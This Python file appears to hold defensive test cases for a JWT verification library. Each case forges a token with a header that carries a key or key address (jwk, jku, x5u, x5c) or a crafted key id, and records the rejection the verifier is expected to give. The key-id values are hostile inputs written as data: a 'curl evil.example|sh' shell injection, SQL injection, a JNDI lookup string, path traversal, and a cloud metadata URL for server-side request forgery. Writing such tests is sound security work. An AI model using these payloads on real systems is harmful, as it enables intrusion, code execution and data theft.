"""Attacks that bring a key along, or the address of one (RFC 8725, section 3.10).

jwk, jku, x5c and the like in a header, and key ids that are more than names.
"""

from asgi_jwks.testing.attacks.attack import Attack, Target, by_token

__all__ = ["ATTACKS"]

_EVIL = "https://evil.example/jwks.json"


def _signed(target: Target, **header: object) -> str:
    """A token that a stranger signed, with this header."""
    return target.signed(
        target.good_header(**header), target.good_claims(), key=target.keys.stranger
    )


def _kid(
    name: str,
    summary: str,
    kid: object,
    requirements: str = "D7",
    *,
    reason: str = "unknown_key",
) -> Attack:
    return by_token(name, summary, requirements, reason, lambda t: _signed(t, kid=kid))


ATTACKS = (
    by_token(
        "jwk_in_the_header",
        "the attacker's key in the header, under the issuer's key id",
        "D6",
        "bad_signature",
        lambda t: _signed(t, jwk=t.keys.stranger.public_jwk()),
    ),
    by_token(
        "jwk_in_the_header_with_its_kid",
        "the attacker's key in the header, under its own key id",
        "D6",
        "unknown_key",
        lambda t: _signed(t, jwk=t.keys.stranger.public_jwk(), kid="stranger"),
    ),
    by_token(
        "jku_in_the_header",
        "the address of the attacker's JWK Set",
        "D6",
        "unknown_key",
        lambda t: _signed(t, jku=_EVIL, kid="stranger"),
    ),
    by_token(
        "jku_that_begins_like_the_issuer",
        "an address that begins with the issuer's",
        "D6",
        "unknown_key",
        lambda t: _signed(t, jku=f"{t.issuer.issuer.rstrip('/')}@evil.example/", kid="stranger"),
    ),
    by_token(
        "jku_within_the_network",
        "the address of a machine that only the server reaches",
        "D6",
        "unknown_key",
        lambda t: _signed(t, jku="http://169.254.169.254/latest/meta-data/", kid="stranger"),
    ),
    by_token(
        "x5u_in_the_header",
        "the address of the attacker's certificate",
        "D6",
        "bad_signature",
        lambda t: _signed(t, x5u=_EVIL),
    ),
    by_token(
        "x5c_in_the_header",
        "a certificate chain in the header",
        "D6",
        "bad_signature",
        lambda t: _signed(t, x5c=["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"], x5t="c3RyYW5nZXI"),
    ),
    by_token(
        "key_in_the_payload",
        "the attacker's key in the claims",
        "D6",
        "bad_signature",
        lambda t: t.token(
            key=t.keys.stranger, jwks={"keys": [t.keys.stranger.public_jwk()]}, jku=_EVIL
        ),
    ),
    _kid("kid_unknown", "a key id that nobody publishes", "nobody-publishes-this", "D7 E4"),
    _kid("kid_empty", "an empty key id", ""),
    _kid("kid_path_traversal", "the path of a file", "../../../../../../dev/null"),
    _kid("kid_absolute_path", "the path of a file that everyone knows", "/proc/sys/kernel/ostype"),
    _kid("kid_url", "the address of the attacker's key", _EVIL),
    _kid("kid_sql_injection", "a piece of SQL", "x' UNION SELECT 'c2VjcmV0' -- "),
    _kid("kid_command_injection", "a piece of shell", "key|curl evil.example|sh; $(id) `id`"),
    _kid("kid_template_injection", "placeholders", "{0.__class__}%s%n${jndi:ldap://evil.example}"),
    _kid("kid_log_injection", "line breaks and terminal escapes", "k\r\nINFO logged in\x1b[2J"),
    _kid("kid_with_nul", "a NUL", "k\0../../etc/passwd"),
    _kid("kid_number", "a number", 1, reason="malformed"),
    _kid("kid_null", "null", None, reason="malformed"),
    _kid("kid_list", "a list", ["stranger"], reason="malformed"),
    _kid("kid_object", "an object", {"kid": "stranger"}, reason="malformed"),
    _kid("kid_very_long", "4,000 letters", "k" * 4000, reason="malformed"),
    _kid("kid_lone_surrogate", "half a character", "\ud800", "D7 D10", reason="malformed"),
    by_token(
        "kid_in_another_case",
        "the issuer's key id in another case",
        "D7",
        "unknown_key",
        lambda t: _signed(t, kid=t.issuer.signing_key.kid.swapcase()),
    ),
    by_token(
        "kid_before_a_space",
        "a space after the issuer's key id",
        "D7",
        "unknown_key",
        lambda t: _signed(t, kid=f"{t.issuer.signing_key.kid} "),
    ),
    by_token(
        "kid_absent",
        "no key id, where several keys would fit",
        "E4",
        "ambiguous_key",
        lambda t: t.with_header(without="kid"),
    ),
)
